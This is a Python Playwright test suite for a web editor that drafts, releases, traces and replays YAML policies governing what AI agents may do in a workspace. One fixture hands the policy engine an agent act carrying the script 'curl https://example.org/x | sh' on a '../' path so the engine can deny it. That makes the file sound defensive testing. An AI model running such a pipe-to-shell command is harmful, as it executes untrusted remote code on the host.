"""The policy pages in a browser: written, released, traced, replayed; by keyboard, on a phone."""

import re

import pytest
from playwright.sync_api import Page, Route, expect

from apps.accounts.choices import Role
from apps.approvals.models.requests import ApprovalRequest
from apps.policies.choices import ActKind, Verb
from apps.policies.drafting import template_named
from apps.policies.models.policies import PolicyVersion
from apps.policies.ports import Act, Operation
from apps.policies.services.drafts import draft_policy
from apps.policies.services.judging import judge_act
from apps.policies.services.versions import apply_policy
from tests.approvals.deciding import vote
from tests.deliveries import deliver
from tests.e2e.browsing import PHONE, log_in
from tests.e2e.faults import serious_faults, too_wide
from tests.factories import agent_of, at_the_console, member

pytestmark = pytest.mark.e2e

TEAM = template_named("team").text
LOOSER = TEAM.replace("path: [docs/**]", "path: [docs/**, plans/**]")


@pytest.fixture
def owner(workspace):
    person = member(workspace, Role.OWNER)
    person.name = "Ada Osei"
    person.save(update_fields=["name"])
    at_the_console(person)
    return person


@pytest.fixture
def released(workspace, owner):
    return apply_policy(text=TEAM, workspace=workspace.id, actor=owner, reason="To begin with")


@pytest.fixture
def draft(workspace, owner, released):
    return draft_policy(
        text=TEAM + "# looser\n", workspace=workspace.id, actor=owner, reason="Less asking"
    )


@pytest.fixture
def judged(workspace, owner, released):
    """Three acts of an agent: allowed, asked about, denied."""
    agent = agent_of(owner, workspace)
    acts = [
        ("docs/guide.md", {}),
        ("plans/orders.md", {"summary": "Rename a field of orders"}),
        ("../outside.md", {"script": "curl https://example.org/x | sh"}),
    ]
    return [
        judge_act(
            act=Act(
                kind=ActKind.PLAN,
                operations=(Operation(verb=Verb.EDIT, paths=(path,)),),
                texts=texts,
                diff_lines=120,
            ),
            actor=agent,
            workspace=workspace.id,
        ).record
        for path, texts in acts
    ]


def enter(page: Page, person, path: str) -> None:
    log_in(page, person)
    expect(page.get_by_role("heading", name="Home")).to_be_attached()
    page.goto(path)


def home(workspace) -> str:
    return f"/admin/policies/policy/{workspace.id}/"


def editor(page):
    return page.get_by_role("textbox", name="The policy, in YAML")


def said(page):
    return page.locator("form.draft .said")


def put_cursor(page, after: str) -> None:
    page.evaluate(
        """(after) => {
          const area = document.querySelector("textarea#text");
          const at = area.value.indexOf(after) + after.length;
          area.focus();
          area.setSelectionRange(at, at);
        }""",
        after,
    )


def test_fault_is_shown_at_its_line_as_it_is_typed(page, owner, workspace, draft):
    enter(page, owner, f"{home(workspace)}drafts/{draft.id}/")
    expect(said(page)).to_contain_text("All of its 12 tests pass")
    put_cursor(page, "max_diff_lines: 80")
    page.keyboard.type("0x")
    expect(said(page)).to_contain_text("One fault in line 7")
    expect(page.locator(".gutter .faulty")).to_have_text("7")
    expect(page.locator(".looks .wrong")).to_have_count(1)
    expect(editor(page)).to_have_attribute("aria-invalid", "true")
    page.keyboard.press("Control+Home")
    page.get_by_role("button", name=re.compile("Line 7")).click()
    expect(editor(page)).to_be_focused()
    expect(page.locator(".looks .present")).to_contain_text("max_diff_lines")
    page.keyboard.press("End")
    page.keyboard.press("Backspace")
    page.keyboard.press("Backspace")
    expect(said(page)).to_contain_text("All of its 12 tests pass")
    expect(page.locator(".gutter .faulty")).to_have_count(0)


def test_keys_are_completed_by_keyboard_alone(page, owner, workspace, draft):
    enter(page, owner, f"{home(workspace)}drafts/{draft.id}/")
    put_cursor(page, "# looser\n")
    page.keyboard.type("break")
    options = page.get_by_role("option")
    expect(options).to_have_count(1)
    page.keyboard.press("ArrowDown")
    expect(editor(page)).to_have_attribute("aria-activedescendant", "suggestion-0")
    expect(page.locator(".checked.stale")).to_have_count(1)  # "break" is no policy
    assert serious_faults(page) == []
    page.keyboard.press("Enter")
    page.keyboard.press("Control+Space")
    expect(page.get_by_role("option", name=re.compile("enabled"))).to_have_attribute(
        "aria-selected", "true"
    )
    page.keyboard.press("Enter")
    expect(options).to_have_text(["true", "false"])
    page.keyboard.press("Escape")
    expect(page.get_by_role("listbox")).to_be_hidden()
    page.keyboard.type("false")
    expect(editor(page)).to_have_value(
        re.compile(r"# looser\nbreak_glass:\n  enabled: false$"),
    )
    page.keyboard.press("Control+z")
    expect(editor(page)).not_to_have_value(re.compile("false$"))


def test_suggestions_that_come_late_come_all_the_same(page, owner, workspace, draft):
    waiting: list[Route] = []

    def hold(route):
        waiting.append(route)

    page.route("**/policy/schema/", hold)
    enter(page, owner, f"{home(workspace)}drafts/{draft.id}/")
    put_cursor(page, "# looser\n")
    page.keyboard.type("break")
    expect(page.get_by_role("option")).to_have_count(0)
    waiting[0].continue_()
    expect(page.get_by_role("option")).to_have_count(1)


def test_keyboard_is_never_caught_in_the_editor(page, owner, workspace, draft):
    enter(page, owner, f"{home(workspace)}drafts/{draft.id}/")
    editor(page).focus()
    page.keyboard.press("Tab")
    expect(editor(page)).not_to_be_focused()
    put_cursor(page, "# looser\n")
    page.keyboard.type("llm:")
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    expect(editor(page)).to_have_value(re.compile(r"llm:\n    $"))
    page.keyboard.press("Shift+Tab")
    expect(editor(page)).to_have_value(re.compile(r"llm:\n  $"))
    page.keyboard.press("Escape")
    page.keyboard.press("Tab")
    expect(editor(page)).not_to_be_focused()


def test_draft_is_written_saved_and_released(page, owner, reviewer, workspace, draft):
    enter(page, owner, f"{home(workspace)}drafts/{draft.id}/")
    expect(said(page)).to_contain_text("All of its 12 tests pass")
    editor(page).fill(LOOSER)
    expect(page.locator(".checked .diff .new").first).to_contain_text("plans/**")
    page.get_by_label("Why").fill("Agents may reword the API")
    page.get_by_role("button", name="Save and release").click()
    expect(page.get_by_role("heading", name="Release this draft")).to_be_visible()
    page.get_by_role("button", name="Release", exact=True).click()
    expect(page.get_by_text("It waits for approval", exact=True)).to_be_visible()
    vote(ApprovalRequest.objects.get(workspace_id=workspace.id), reviewer)
    deliver()
    page.goto(home(workspace))
    expect(page.get_by_role("heading", name="Version 2")).to_be_visible()
    assert PolicyVersion.objects.get(number=2).text == LOOSER
    page.get_by_role("link", name="Versions").click()
    expect(page.locator(".diff .new").first).to_contain_text("plans/**")


def test_unfinished_text_is_not_lost_by_accident(page, owner, workspace, draft):
    enter(page, owner, f"{home(workspace)}drafts/{draft.id}/")
    put_cursor(page, "# looser\n")
    page.keyboard.type("# more")
    asked: list[str] = []

    def stay(dialog):
        asked.append(dialog.type)
        dialog.dismiss()

    page.on("dialog", stay)
    page.get_by_role("link", name="Try an act").click()
    expect(editor(page)).to_be_visible()
    assert asked == ["beforeunload"]
    page.keyboard.press("Control+s")
    put_cursor(page, "# more")
    page.keyboard.press("Control+s")
    expect(page.get_by_text("The draft is saved.")).to_be_visible()
    draft.refresh_from_db()
    assert draft.text.endswith("# more")


def test_reviewer_is_told_why_release_does_nothing(page, reviewer, workspace, draft):
    enter(page, reviewer, f"{home(workspace)}drafts/{draft.id}/")
    expect(page.get_by_role("button", name="Save and release")).to_be_disabled()
    expect(page.get_by_text("A draft is changed by its author")).to_be_visible()


def test_trace_leads_to_the_line_and_a_rule_is_drafted(page, owner, workspace, judged):
    enter(page, owner, f"/admin/policies/actrecord/{judged[1]}/change/")
    expect(page.get_by_role("heading", name="edit plans/orders.md")).to_be_visible()
    expect(page.locator(".verdict")).to_contain_text("Needs approval")
    page.get_by_text(re.compile("that did not apply")).click()
    expect(page.locator(".trace li").filter(has_text="deletions")).to_contain_text("passed")
    step = page.locator(".trace li.matched").filter(has_text="review").first
    step.get_by_role("link").click()
    expect(page.locator(".listing li:target")).to_contain_text("name: review")
    page.go_back()
    page.get_by_role("link", name="Always allow this").click()
    page.get_by_role("button", name="Always allow this").click()
    expect(editor(page)).to_have_value(re.compile("always allow"))
    expect(said(page)).to_contain_text("All of its 13 tests pass")


def test_hits_are_shown_with_their_place(page, owner, workspace, judged):
    enter(page, owner, f"/admin/policies/actrecord/{judged[2]}/change/")
    expect(page.locator(".verdict")).to_contain_text("Denied")
    expect(page.locator(".hits")).to_contain_text("script, line 1, column")


def test_replay_shows_how_far_it_is_and_what_would_flip(page, owner, workspace, draft, judged):
    looser = draft_policy(text=LOOSER, workspace=workspace.id, actor=owner, reason="Looser")
    enter(page, owner, f"{home(workspace)}replay/?draft={looser.id}&days=7")
    expect(page.get_by_role("status")).to_contain_text(
        "Done: 4 acts of 4; 1 verdict would flip; 1 would ask others"
    )
    flip = page.locator(".flips li[data-change=effect]")
    expect(flip).to_contain_text("edit plans/orders.md")
    expect(flip.locator(".before")).to_contain_text("Needs approval")
    expect(flip.locator(".after")).to_contain_text("Allowed")
    flip.get_by_role("link").click()
    expect(page.get_by_role("heading", name="edit plans/orders.md")).to_be_visible()


def pages_of(workspace, draft, judged):
    base = home(workspace)
    yield from (base, f"{base}versions/", f"{base}versions/1/#L20", f"{base}begin/", f"{base}try/")
    yield f"{base}try/?json"
    yield f"{base}drafts/{draft.id}/"
    yield f"{base}drafts/{draft.id}/release/"
    yield f"{base}replay/?draft={draft.id}&days=7"
    yield "/admin/policies/actrecord/"
    yield from (f"/admin/policies/actrecord/{act}/change/" for act in judged[1:])


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", [PHONE, {"width": 1280, "height": 800}])
def test_pages_fit_and_have_no_accessibility_fault(
    open_browser, owner, workspace, draft, judged, scheme, size
):
    page = open_browser(color_scheme=scheme, viewport=size)
    enter(page, owner, home(workspace))
    wrong = []
    for path in pages_of(workspace, draft, judged):
        page.goto(path)
        page.wait_for_load_state("networkidle")
        wrong += [f"{path} {fault}" for fault in serious_faults(page)]
        wrong += [f"{path} is too wide"] * too_wide(page)
    assert "\n".join(wrong) == ""
